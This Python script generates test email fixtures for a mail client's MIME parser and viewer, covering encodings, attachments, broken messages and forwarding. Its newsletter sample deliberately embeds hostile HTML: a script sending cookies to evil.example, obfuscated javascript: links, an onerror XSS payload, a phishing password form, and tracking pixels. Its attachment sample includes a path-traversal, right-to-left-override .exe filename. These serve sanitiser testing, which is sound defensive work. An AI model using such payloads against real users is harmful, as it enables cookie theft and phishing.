#!/usr/bin/env python3
"""Writes the sample messages of tests/protocols/tst_mimeparser.cpp and tests/ui/tst_messageview.cpp.

The .eml files are committed; run this only to change them. Line ends are CRLF except where a
sample is about bare LF. Binary parts (a PNG logo, a small PDF) are generated here so the
expected sizes in the tests are exact: the tests print the sizes they expect next to the files.
"""
import base64
import os
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def png(w, h, rgb, accent=None):
    raw = b''
    for y in range(h):
        raw += b'\x00'
        for x in range(w):
            c = rgb
            if accent and (x // 6) % 2 == 0 and y >= h - 6:
                c = accent
            raw += bytes(c)

    def chunk(t, d):
        return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)

    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0))
            + chunk(b'IDAT', zlib.compress(raw, 9)) + chunk(b'IEND', b''))


def b64(data):
    s = base64.b64encode(data).decode()
    return '\n'.join(s[i:i + 76] for i in range(0, len(s), 76))


def enc_word(text, charset='UTF-8'):
    return '=?%s?B?%s?=' % (charset, base64.b64encode(text.encode(charset)).decode())


def write(name, text, crlf=True, extra_bytes=None):
    data = text.encode('utf-8') if isinstance(text, str) else text
    if crlf:
        data = data.replace(b'\r\n', b'\n').replace(b'\n', b'\r\n')
    with open(os.path.join(HERE, name), 'wb') as f:
        f.write(data)


LOGO = png(120, 40, (32, 96, 200), (250, 200, 40))
PDF = (b'%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n'
       b'2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n'
       b'trailer << /Root 1 0 R >>\n%%EOF\n') * 3

# 1. multipart/alternative: quoted-printable UTF-8 text and ISO-8859-1 HTML, encoded words.
write('alternative-qp.eml', '''Return-Path: <lea.dubois@example.fr>
Received: from mail.example.fr (mail.example.fr [192.0.2.10])
\tby mx.example.com with ESMTPS id 4711; Tue, 14 May 2024 09:12:35 +0200
Date: Tue, 14 May 2024 09:12:33 +0200
From: =?UTF-8?Q?L=C3=A9a_Dubois?= <lea.dubois@example.fr>
To: =?ISO-8859-1?Q?M=FCller=2C_Anna?= <anna@example.com>
Cc: Ben Okafor <ben@example.org>, %s <yamada@example.jp>
Reply-To: =?UTF-8?Q?L=C3=A9a_Dubois?= <lea@example.fr>
Subject: =?UTF-8?Q?R=C3=A9union_de_l=E2=80=99=C3=A9quipe_?=
 =?UTF-8?Q?=E2=80=94_ordre_du_jour?=
Message-ID: <20240514091233.4711@example.fr>
In-Reply-To: <5c2a1@example.com>
References: <root.1@example.com>
 <5c2a1@example.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="=_alt_7f3a"

This is a multi-part message in MIME format.

--=_alt_7f3a
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

Bonjour Anna,

Voici l=E2=80=99ordre du jour pour la r=C3=A9union de jeudi=C2=A0:
 1. Budget 2024 =E2=80=93 d=C3=A9penses r=C3=A9elles
 2. Caf=C3=A9 et croissants =E2=98=95
Cette ligne est volontairement longue afin que l=E2=80=99encodeur la coupe=
 en deux morceaux.

> Anna a =C3=A9crit :
> Est-ce qu'on peut d=C3=A9caler =C3=A0 10h ?

=C3=80 jeudi,
L=C3=A9a
--=_alt_7f3a
Content-Type: text/html; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable

<html><head><meta http-equiv=3D"Content-Type" content=3D"text/html; charset=3D=
iso-8859-1"></head><body>
<p>Bonjour Anna,</p><p>Voici l'ordre du jour pour la r=E9union de jeudi&nbsp;:=
</p>
<ol><li>Budget 2024 &ndash; d=E9penses r=E9elles</li><li>Caf=E9 et croissants<=
/li></ol>
<p>=C0 jeudi,<br>L=E9a</p></body></html>
--=_alt_7f3a--
''' % enc_word('山田'))

# 2. An HTML newsletter: remote images, a tracking pixel, a cid: logo and every trick a hostile
#    sender would try.
newsletter_html = '''<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<title>The Weekly Byte</title>
<style type="text/css">
@import url("https://tracker.example.net/style.css");
body { background: #f4f4f4; font-family: Helvetica, Arial, sans-serif; }
.hero { background-image: url(https://cdn.example.net/bg.jpg); }
h1 { color: #1a4d8f; width: expression(alert('x')); }
</style>
<script type="text/javascript">document.location='https://evil.example/?c='+document.cookie;</script>
</head>
<body bgcolor="#f4f4f4" onload="alert('loaded')">
<table width="600" align="center" cellpadding="12" cellspacing="0" bgcolor="#ffffff" background="https://cdn.example.net/paper.png">
<tr><td><img src="cid:logo@weekly-byte.example" alt="The Weekly Byte" width="120" height="40"></td>
<td align="right"><font color="#888888" size="2">Issue 42 &middot; May 2024</font></td></tr>
<tr><td colspan="2">
<img src="https://cdn.example.net/issue42/hero.png" width="560" height="180" alt="Hero image">
<h1>Rust, Qt and the art of the small binary</h1>
<p>This week we look at <b>link-time optimisation</b>, why <i>static</i> builds are back,
and what a mail client can teach us about untrusted input.</p>
<p><a href="https://weekly-byte.example/issue42/lto?utm_source=mail" onclick="track(1)">Read the full article &rarr;</a></p>
<p><a href="jav&#x61;script:alert(document.domain)">Claim your prize</a> |
<a href="  JaVaScRiPt:alert(1)">Another prize</a> |
<a href="mailto:editor@weekly-byte.example?subject=Feedback">Write to the editor</a></p>
<form action="https://evil.example/phish" method="post"><p>Password: <input type="password" name="pw"><button>Log in</button></p></form>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/flash.swf"></object>
<img src="x" onerror="alert('xss')">
<svg><script>alert(1)</script></svg>
<p style="color:#555; background:url('https://tracker.example.net/p.gif')">Sponsored by Example Corp.</p>
</td></tr>
<tr><td colspan="2"><font size="1" color="#999999">You receive this because you subscribed.
<a href="https://weekly-byte.example/unsubscribe?u=8d7f">Unsubscribe</a></font>
<img src="http://t.example.net/open.gif?u=8d7f" width="1" height="1" alt=""></td></tr>
</table>
</body></html>
'''
write('newsletter.eml', '''Date: Fri, 17 May 2024 07:00:00 +0000
From: The Weekly Byte <news@weekly-byte.example>
To: anna@example.com
Subject: The Weekly Byte =?UTF-8?Q?=E2=80=94?= Issue 42
Message-ID: <issue42.8d7f@weekly-byte.example>
List-Unsubscribe: <mailto:unsubscribe@weekly-byte.example?subject=8d7f>,
 <https://weekly-byte.example/unsubscribe?u=8d7f>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="b1_alt"

--b1_alt
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

The Weekly Byte, issue 42

Rust, Qt and the art of the small binary
https://weekly-byte.example/issue42/lto

--b1_alt
Content-Type: multipart/related; boundary="b2_rel"; type="text/html"

--b2_rel
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

%s
--b2_rel
Content-Type: image/png; name="logo.png"
Content-Transfer-Encoding: base64
Content-ID: <logo@weekly-byte.example>
Content-Disposition: inline; filename="logo.png"

%s
--b2_rel--

--b1_alt--
''' % (b64(newsletter_html.encode()), b64(LOGO)))

# 3. Attachments with RFC 2231 names (continuations, charsets), an RFC 2047 name, and a name that
#    tries to hide its extension behind a right-to-left override and a path.
write('attachments-rfc2231.eml', '''Date: Mon, 3 Jun 2024 16:45:10 +0200
From: Buchhaltung <buchhaltung@example.de>
To: anna@example.com
Subject: =?UTF-8?Q?Bericht_M=C3=A4rz_und_Gr=C3=BC=C3=9Fe?=
Message-ID: <bericht-maerz-2024@example.de>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_Part_0_1234"

------=_Part_0_1234
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Hallo Anna,

anbei der Bericht für März.

Viele Grüße
Die Buchhaltung
------=_Part_0_1234
Content-Type: application/pdf;
 name*0*=UTF-8''Bericht%%20M;
 name*1*=%%C3%%A4rz.pdf
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
 filename*0*=UTF-8''Bericht%%20M;
 filename*1*=%%C3%%A4rz.pdf

%s
------=_Part_0_1234
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable
Content-Disposition: attachment; filename*=iso-8859-1'de'Gr%%FC%%DFe.txt

Sch=F6ne Gr=FC=DFe!
------=_Part_0_1234
Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;
 name="=?UTF-8?B?w5xiZXJibGljayAyMDI0Lnhsc3g=?="
Content-Transfer-Encoding: base64
Content-Disposition: attachment

UEsDBBQAAAAIAAAAIQA=
------=_Part_0_1234
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename*=UTF-8''..%%2F..%%2Finvoice%%E2%%80%%AEfdp.exe

TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=
------=_Part_0_1234--
''' % b64(PDF))

# 4. Japanese in ISO-2022-JP, headers and body.
jp_body = '田中です。\n来週の会議は火曜日の午後３時からです。\n資料は前日までにお送りします。\n\nよろしくお願いいたします。\n'
write('iso-2022-jp.eml', b'''Date: Wed, 22 May 2024 10:30:00 +0900
From: ''' + enc_word('田中 太郎', 'ISO-2022-JP').encode() + b''' <tanaka@example.jp>
To: anna@example.com
Subject: ''' + enc_word('会議のお知らせ', 'ISO-2022-JP').encode() + b'''
Message-ID: <jp.0522@example.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit

''' + jp_body.encode('iso-2022-jp').replace(b'\n', b'\r\n'))

# 5. Raw 8-bit headers (UTF-8 in one, Latin-1 in another), no MIME headers at all, Latin-1 body.
write('raw-8bit-headers.eml',
      'Date: Sat, 25 May 2024 18:03:00 +0200\n'.encode()
      + 'From: Jörg Weiß <joerg@example.de>\n'.encode('utf-8')
      + 'To: Anna Müller <anna@example.com>\n'.encode('latin-1')
      + 'Subject: Grüße aus Zürich – Fotos\n'.encode('utf-8')
      + b'Message-ID: <8bit.1@example.de>\n\n'
      + 'Hallo Anna,\n\nanbei die Fotos vom Wochenende. Schöne Grüße aus Zürich!\nJörg\n'.encode('latin-1'))

# 6. Broken: bare LF, a boundary that is never closed, a part without headers, NUL bytes, an
#    unknown charset, an unknown transfer encoding, base64 with garbage.
write('broken.eml', b'''From: "Broken Mailer" <broken@example.com>
To: anna@example.com
Subject: broken =?utf-8?q?caf=C3=A9?= =?bogus?x?abc?= =?utf-8?b?!!!?=
Date: not a date
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=XYZ
this line has no colon and ends the header

--XYZ
Content-Type: text/plain; charset=x-klingon

Text with a NUL\x00byte and 8-bit \xc3\xa9t\xc3\xa9 in an unknown charset.
--XYZ

A part with no header at all.
--XYZ
Content-Type: application/x-thing
Content-Transfer-Encoding: x-gzip64

H4sIAAAAAAAAA8tIzcnJBwCGphA2BQAAAA==
--XYZ
Content-Type: image/png
Content-Transfer-Encoding: base64
Content-ID: <broken-image>

iVBORw0K**GgoAAAAN
--XYZ-not-a-boundary
still the image part
''', crlf=False)

# 7. A forwarded message (message/rfc822) that is itself multipart.
write('forwarded.eml', '''Date: Thu, 30 May 2024 11:20:00 +0200
From: Anna Müller <anna@example.com>
To: ben@example.org
Subject: =?UTF-8?Q?Fwd:_Rechnung_f=C3=BCr_Mai?=
Message-ID: <fwd.77@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: text/plain; charset=utf-8; format=flowed
Content-Transfer-Encoding: 8bit

Hallo Ben, 
kannst du dir die Rechnung unten bitte ansehen? Sie scheint mir zu hoch zu 
sein.

Anna
--outer
Content-Type: message/rfc822
Content-Disposition: inline

Date: Wed, 29 May 2024 08:00:00 +0200
From: Stadtwerke <rechnung@stadtwerke.example>
To: anna@example.com
Subject: =?UTF-8?Q?Rechnung_f=C3=BCr_Mai?=
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="inner"

--inner
Content-Type: text/plain; charset=utf-8

Sehr geehrte Frau Müller, anbei Ihre Rechnung.
--inner
Content-Type: application/pdf; name="rechnung-mai.pdf"
Content-Disposition: attachment; filename="rechnung-mai.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQK
--inner--
--outer--
''')

print('LOGO', len(LOGO), 'PDF', len(PDF))
